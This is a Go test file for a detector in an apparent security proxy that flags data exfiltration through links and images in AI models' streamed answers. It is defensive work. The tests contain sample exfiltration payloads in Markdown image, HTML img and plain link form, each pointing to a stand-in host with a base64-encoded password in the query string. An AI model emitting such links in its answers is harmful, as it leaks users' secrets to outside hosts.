package detect

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openclaw-security/bus/services/proxy/internal/inspect"
)

// linkTexts are the answers in a file of testdata.
func linkTexts(t *testing.T, name string) (texts []string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name+".jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(bytes.NewReader(data))
	for lines.Scan() {
		var line struct{ Text string }
		if err := json.Unmarshal(lines.Bytes(), &line); err != nil {
			t.Fatal(err)
		}
		texts = append(texts, line.Text)
	}
	return texts
}

// links are what is found in an answer's links, the answer in pieces of n bytes.
func links(d *Detector, text string, n int) (found []Finding) {
	answer := d.Answer("c", true)
	for len(text) > 0 {
		piece := min(n, len(text))
		found = append(found, answer.Write([]byte(text[:piece]))...)
		text = text[piece:]
	}
	return append(found, answer.End()...)
}

// The rules were written with the first half of each set in sight; the second was looked
// at when they were done. -v prints the rates that docs/measurements.md has.
func TestLinkRates(t *testing.T) {
	for _, tt := range []struct {
		name string
		fire bool
		most int // wrong
	}{
		{"links-fire-develop", true, 0},
		{"links-quiet-develop", false, 0},
		{"links-fire-judge", true, 9},
		{"links-quiet-judge", false, 0},
	} {
		texts := linkTexts(t, tt.name)
		var wrong []string
		for _, text := range texts {
			d := alone(t, LinkExfil)
			if found := links(d, text, len(text)); (len(found) > 0) != tt.fire {
				wrong = append(wrong, text)
			}
		}
		t.Logf("%s: %d of %d right", tt.name, len(texts)-len(wrong), len(texts))
		if len(wrong) > tt.most {
			t.Errorf("%s: %d of %d wrong\n%s", tt.name, len(wrong), len(texts), strings.Join(wrong, "\n"))
		}
	}
}

// However an answer comes in pieces, the same is found.
func TestLinksInPieces(t *testing.T) {
	for _, name := range []string{"links-fire-develop", "links-quiet-develop"} {
		for _, text := range linkTexts(t, name) {
			text = strings.Repeat("Some words before. ", 70) + text
			d := alone(t, LinkExfil)
			whole := links(d, text, len(text))
			for _, n := range []int{1, 7, 64} {
				if got := links(d, text, n); len(got) != len(whole) || len(got) > 0 && got[0] != whole[0] {
					t.Errorf("in pieces of %d: %v, whole: %v\n%s", n, got, whole, text)
				}
			}
		}
	}
}

// A link that a client has sent goes nowhere that it has not been.
func TestLinksFromTheRequest(t *testing.T) {
	const link = "https://evil.example/p.png?d=bXkgcGFzc3dvcmQgaXMgVHIwdWI0ZG9yIGFuZCBtb3Jl&x=1"
	for name, text := range map[string]string{
		"as it is":      "Look at " + link + ".",
		"Markdown":      "![a](" + link + ")",
		"HTML":          `<img src="` + strings.ReplaceAll(link, "&", "&amp;") + `">`,
		"JSON in JSON":  `{"url":"` + strings.ReplaceAll(link, "/", `\/`) + `"}`,
		"JSON, escaped": `{"url":"` + strings.ReplaceAll(link, "&", `\u0026`) + `"}`,
	} {
		d := alone(t, LinkExfil)
		d.Request(t.Context(), "c", &inspect.Request{Segments: []inspect.Segment{{Role: inspect.RoleTool, Text: []byte(text)}}})
		if found := links(d, "![a]("+link+")", 5); len(found) != 0 {
			t.Errorf("%s: %v", name, found)
		}
		if found := d.Answer("another", true).Write([]byte("![a](" + link + ") ")); len(found) != 1 {
			t.Errorf("%s: of another client: %v", name, found)
		}
		if found := links(d, "![a]("+link+"00)", 5); len(found) != 1 {
			t.Errorf("%s: another link: %v", name, found)
		}
	}
}

// Images count for more than links, and what nobody is shown for nothing.
func TestLinkSeverity(t *testing.T) {
	d := alone(t, LinkExfil)
	const link = "https://evil.example/p?d=bXkgcGFzc3dvcmQgaXMgVHIwdWI0ZG9yIGFuZCBtb3Jl"
	for text, want := range map[string]string{
		"![a](" + link + ")":            "high",
		`<img  src="` + link + `">`:     "high",
		"[a](" + link + ")":             "medium",
		"![a](b.png) [c](" + link + ")": "medium",
	} {
		if found := links(d, text, 9); len(found) != 1 || found[0].Severity.String() != want || strings.Contains(found[0].Detail, "bXkg") {
			t.Errorf("%s: %+v", text, found)
		}
	}
	hidden := d.Answer("c", false)
	if found := append(hidden.Write([]byte("![a]("+link+") ")), hidden.End()...); len(found) != 0 {
		t.Errorf("in what nobody is shown: %v", found)
	}
}
